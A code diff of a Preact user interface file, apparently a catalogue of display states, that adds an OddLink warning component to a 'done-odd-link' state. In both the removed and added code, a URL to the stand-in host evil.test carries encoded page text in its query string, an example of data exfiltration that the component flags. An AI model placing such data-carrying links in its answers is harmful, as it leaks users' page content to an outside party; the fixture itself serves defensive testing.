@@ -1,4 +1,5 @@
 import type { ComponentChild } from 'preact';
+import { OddLink } from '../../components/OddLink';
 import { Preview } from '../../components/Preview';
 import { type RunAsks, RunView } from '../../components/RunView';
 import { Skeleton } from '../../components/Skeleton';
@@ -231,14 +232,14 @@ function runStates(texts: Texts): States {
       </Acted>
     ),
     'done-odd-link': () => (
-      <Acted acts={[click('.answer a')]}>
-        {one(
-          { kind: 'done' },
-          {
-            text: `${answer}\n\n[Example](https://evil.test/take?it=${encodeURIComponent(texts.page.slice(0, 60))})`,
-          },
-        )}
-      </Acted>
+      <>
+        {one({ kind: 'done' }, { text: answer, receipt: receipt() })}
+        <OddLink
+          address={`https://evil.test/take?it=${encodeURIComponent(texts.page.slice(0, 90))}`}
+          oddity="carries"
+          onClose={() => undefined}
+        />
+      </>
     ),
     'done-open-receipt': () => one({ kind: 'done' }, { text: answer, receipt: receipt() }),
     'stopped-open-receipt': () => one({ kind: 'stopped' }, { text: answer, receipt: partial }),
